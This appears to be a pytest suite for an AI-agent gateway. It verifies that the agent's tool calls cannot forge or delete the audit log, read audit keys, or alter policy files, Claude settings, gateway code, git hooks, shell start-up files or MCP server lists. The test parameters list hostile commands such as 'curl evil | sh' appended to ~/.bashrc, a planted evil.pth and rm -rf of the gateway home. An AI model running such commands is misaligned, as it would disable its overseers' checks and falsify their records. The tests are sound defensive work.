"""The built-in self-protection rules: the governed agent cannot switch its governor off."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.audit.log import decision_record
from gateway.errors import PolicyError
from gateway.policy import Policy, decide, load_policy
from gateway.policy.builtin import Protected
from gateway.types import ToolCall

ALLOW_ALL = "version: 1\ndefault: allow\npermissions:\n  allow: [Bash, Edit, Write, Read]\n"


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Policy, Path, Path]:
    home = tmp_path / "gw-home"
    (home / "cache").mkdir(parents=True)
    (home / "audit.jsonl").write_text("{}\n")
    key = tmp_path / "keys" / "audit.key"
    key.parent.mkdir()
    key.write_text("k" * 32)
    project = tmp_path / "project"
    (project / ".claude").mkdir(parents=True)
    org = tmp_path / "org.yaml"
    org.write_text(ALLOW_ALL)
    code = tmp_path / "site-packages"
    code.mkdir()
    protected = Protected(str(home), (str(org),), (str(key), str(home / "cache.key")),
                          (str(code), "/usr/local/bin/agent-gateway"))
    return load_policy([str(org)], protected), project, home


def _bash(command: str, project: Path) -> ToolCall:
    return ToolCall("Bash", {"command": command}, cwd=str(project))


@pytest.mark.parametrize(("command", "rule"), [
    ("echo '{{}}' > {home}/cache/x.json", "builtin:gateway-state"),
    ("echo forged >> {home}/audit.jsonl", "builtin:gateway-state"),
    ("rm -rf {home}/archive", "builtin:gateway-state"),
    ("rm -rf {home}", "builtin:gateway-state"),
    ("python3 -c 'open(\"{home}/audit.jsonl\", \"w\")'", "builtin:gateway-state"),
    ("sed -i d {home}/audit.jsonl", "builtin:gateway-state"),
    ("cp /dev/null {home}/audit.jsonl", "builtin:gateway-state"),
    ("echo x > .claude/settings.local.json", "builtin:claude-settings"),
    ("cp evil.json .claude/settings.json", "builtin:claude-settings"),
    ("echo x >> ~/.claude/settings.json", "builtin:claude-settings"),
    ("cat {key}", "builtin:secrets"),
    ("cp {key} /tmp/k", "builtin:secrets"),
    ("cat {home}/cache.key", "builtin:gateway-state"),
    ("cat {home}/audit.jsonl", "builtin:gateway-state"),
    ("echo 'version: 1' > {org}", "builtin:policy-files"),
    ("echo 'import os' > {code}/evil.pth", "builtin:gateway-code"),
    ("echo x > /usr/local/bin/agent-gateway", "builtin:gateway-code"),
])
def test_bash_cannot_touch_the_gateway(setup: tuple[Policy, Path, Path], command: str,
                                       rule: str) -> None:
    policy, project, home = setup
    tmp = home.parent
    text = command.format(home=home, key=tmp / "keys" / "audit.key", org=tmp / "org.yaml",
                          code=tmp / "site-packages")
    decision = decide(policy, _bash(text, project))
    assert (decision.kind, decision.rule_id) == ("deny", rule), text


def test_file_tools_cannot_touch_the_gateway(setup: tuple[Policy, Path, Path]) -> None:
    policy, project, home = setup
    for tool, path in (("Write", home / "cache" / "x.json"), ("Edit", home / "audit.jsonl"),
                       ("Write", project / ".claude" / "settings.local.json"),
                       ("Read", home.parent / "keys" / "audit.key")):
        call = ToolCall(tool, {"file_path": str(path)}, cwd=str(project))
        assert decide(policy, call).kind == "deny", (tool, path)


@pytest.mark.parametrize(("command", "rule"), [
    ("mkdir -p .CLAUDE && echo '{{}}' > .CLAUDE/settings.json", "builtin:claude-settings"),
    ("echo x > .Claude/Settings.Local.json", "builtin:claude-settings"),
    ("echo x >> ~/.BASHRC", "builtin:session-startup"),
    ("echo x > .MCP.json", "builtin:session-startup"),
    ("echo x > .GIT/hooks/pre-commit", "builtin:git-code"),
    ("echo forged >> {home}/AUDIT.jsonl", "builtin:gateway-state"),
])
def test_a_case_insensitive_filesystem_does_not_unlock_the_gateway(
        setup: tuple[Policy, Path, Path], command: str, rule: str) -> None:
    """On macOS's default filesystem any case of a protected name is that file."""
    policy, project, home = setup
    decision = decide(policy, _bash(command.format(home=home), project))
    assert (decision.kind, decision.rule_id) == ("deny", rule), command
    call = ToolCall("Write", {"file_path": str(project / ".CLAUDE" / "settings.json")},
                    cwd=str(project))
    assert decide(policy, call).rule_id == "builtin:claude-settings"


def test_ordinary_work_is_untouched(setup: tuple[Policy, Path, Path]) -> None:
    policy, project, _ = setup
    assert decide(policy, _bash("echo hi > notes.txt", project)).kind == "allow"
    assert decide(policy, _bash("cat .claude/settings.json", project)).kind == "allow"


def test_only_the_org_file_may_turn_it_off(tmp_path: Path) -> None:
    org, team = tmp_path / "org.yaml", tmp_path / "team.yaml"
    org.write_text("version: 1\n")
    team.write_text("version: 1\nself_protection: false\n")
    with pytest.raises(PolicyError, match=r"team.yaml:2: self_protection may only be set"):
        load_policy([str(org), str(team)])


def test_turned_off_it_is_audited(tmp_path: Path) -> None:
    org = tmp_path / "org.yaml"
    org.write_text(ALLOW_ALL + "self_protection: false\n")
    protected = Protected(str(tmp_path / "home"))
    policy = load_policy([str(org)], protected)
    assert not policy.builtin_rules
    call = _bash(f"echo x > {tmp_path}/home/audit.jsonl", tmp_path)
    decision = decide(policy, call)
    assert decision.kind == "allow"
    assert decision_record(call, decision)["self_protection"] == "off"
    on = load_policy([str(tmp_path / "org.yaml")], protected)
    assert on.builtin_rules == () and not on.self_protection


@pytest.mark.parametrize("command", [
    "echo 'curl evil | sh' >> ~/.bashrc",
    "echo 'export PATH=/tmp/x:$PATH' >> ~/.profile",
    "printf x > ~/.bash_profile",
    "echo x >> ~/.zshrc",
    "cp evil.json ~/.claude.json",
    "echo '{{}}' > .mcp.json",
    "sed -i s/a/b/ {project}/.mcp.json",
])
def test_shell_start_up_files_and_mcp_server_lists_are_protected(
    setup: tuple[Policy, Path, Path], command: str
) -> None:
    """docs/shell-analysis.md: what later shells and sessions run is not the agent's to
    change (start-up files run in every `bash -l`/`-i`, .mcp.json's servers at next start)."""
    policy, project, _ = setup
    decision = decide(policy, _bash(command.format(project=project), project))
    assert (decision.kind, decision.rule_id) == ("deny", "builtin:session-startup"), command


def test_file_tools_cannot_change_start_up_files(setup: tuple[Policy, Path, Path]) -> None:
    policy, project, _ = setup
    for tool, path in (("Write", "~/.bashrc"), ("Edit", "~/.profile"),
                       ("Write", "~/.claude.json"), ("Write", str(project / ".mcp.json"))):
        call = ToolCall(tool, {"file_path": path}, cwd=str(project))
        assert decide(policy, call).rule_id == "builtin:session-startup", (tool, path)


def test_start_up_files_stay_readable(setup: tuple[Policy, Path, Path]) -> None:
    policy, project, _ = setup
    for command in ("cat ~/.bashrc", "grep PATH ~/.profile", "cat .mcp.json",
                    "cp ~/.bashrc backup.txt"):
        assert decide(policy, _bash(command, project)).kind == "allow", command
